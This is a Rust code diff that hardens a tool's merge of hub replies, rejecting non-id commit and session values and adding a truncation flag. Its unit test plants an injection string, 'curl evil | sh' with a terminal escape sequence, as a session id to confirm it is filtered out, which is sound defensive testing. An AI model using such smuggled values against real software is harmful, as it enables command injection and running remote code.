@@ -104,6 +104,9 @@ pub struct Answer {
     pub sessions: HashMap<String, Session>,
     /// The hub's URL, for the sessions' web pages.
     pub server: String,
+    /// The hub matched more links than a reply holds: some lines may say "no session"
+    /// wrongly; ask about fewer lines.
+    pub truncated: bool,
 }
 
 /// Checks the file before git is asked: in the repository, tracked, text, long enough.
@@ -220,8 +223,9 @@ pub async fn why(
             found,
         });
     }
+    let truncated = reply.truncated;
     let sessions = reply.sessions.into_iter().map(|s| (s.id.clone(), s)).collect();
-    Ok(Answer { path: rel, blocks, sessions, server: server.to_owned() })
+    Ok(Answer { path: rel, blocks, sessions, server: server.to_owned(), truncated })
 }
 
 /// Adds a later reply's links (fingerprint matches re-indexed) to the first.
@@ -234,7 +238,17 @@ fn merge(into: &mut FindCommitsResponse, part: FindCommitsResponse) {
     }
     let mut map = Vec::new();
     for f in part.links {
-        let key = f.link.as_ref().map(|l| (l.commit_id.clone(), l.session_id.clone())).unwrap_or_default();
+        // Ids go into what is printed (and a command to copy): a link that names a commit
+        // or a session by anything but an id is not used.
+        let Some(key) = f
+            .link
+            .as_ref()
+            .filter(|l| commits::is_object_id(&l.commit_id) && uuid::Uuid::parse_str(&l.session_id).is_ok())
+            .map(|l| (l.commit_id.clone(), l.session_id.clone()))
+        else {
+            map.push(-1);
+            continue;
+        };
         let at = *index.entry(key).or_insert_with(|| {
             into.links.push(f);
             i32::try_from(into.links.len() - 1).unwrap_or(i32::MAX)
@@ -242,10 +256,15 @@ fn merge(into: &mut FindCommitsResponse, part: FindCommitsResponse) {
         map.push(at);
     }
     for mut m in part.fingerprints {
-        m.links = m.links.iter().filter_map(|i| map.get(usize::try_from(*i).ok()?).copied()).collect();
+        m.links = m
+            .links
+            .iter()
+            .filter_map(|i| map.get(usize::try_from(*i).ok()?).copied())
+            .filter(|at| *at >= 0)
+            .collect();
         into.fingerprints.push(m);
     }
-    for s in part.sessions {
+    for s in part.sessions.into_iter().filter(|s| uuid::Uuid::parse_str(&s.id).is_ok()) {
         if !into.sessions.iter().any(|k| k.id == s.id) {
             into.sessions.push(s);
         }
@@ -352,5 +371,48 @@ fn fill_untraced(blamed: &[blame::Line], prints: &[Option<String>], out: &mut [F
         if let Some(j) = pick {
             out[i] = out[j].clone();
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use baton_proto::v1::{CommitLink, FindCommitsResponse, FingerprintMatch, FoundCommit, Session};
+
+    use super::merge;
+
+    fn found(commit: &str, session: &str) -> FoundCommit {
+        FoundCommit {
+            link: Some(CommitLink {
+                commit_id: commit.into(),
+                session_id: session.into(),
+                ..Default::default()
+            }),
+            context: None,
+        }
+    }
+
+    #[test]
+    fn links_that_do_not_name_ids_are_not_used() {
+        let good = uuid::Uuid::now_v7().to_string();
+        let part = FindCommitsResponse {
+            links: vec![
+                found(&"a".repeat(40), "x; curl evil | sh \u{1b}]52;"),
+                found("not-a-commit", &good),
+                found(&"b".repeat(40), &good),
+            ],
+            sessions: vec![
+                Session { id: "\u{1b}[31mred".into(), ..Default::default() },
+                Session { id: good.clone(), ..Default::default() },
+            ],
+            fingerprints: vec![FingerprintMatch { fingerprint: "0".repeat(16), links: vec![0, 1, 2] }],
+            ..Default::default()
+        };
+        let mut into = FindCommitsResponse::default();
+        merge(&mut into, part);
+        assert_eq!(into.links.len(), 1);
+        assert_eq!(into.links[0].link.as_ref().unwrap().commit_id, "b".repeat(40));
+        assert_eq!(into.fingerprints[0].links, vec![0]);
+        assert_eq!(into.sessions.len(), 1);
+        assert_eq!(into.sessions[0].id, good);
     }
 }
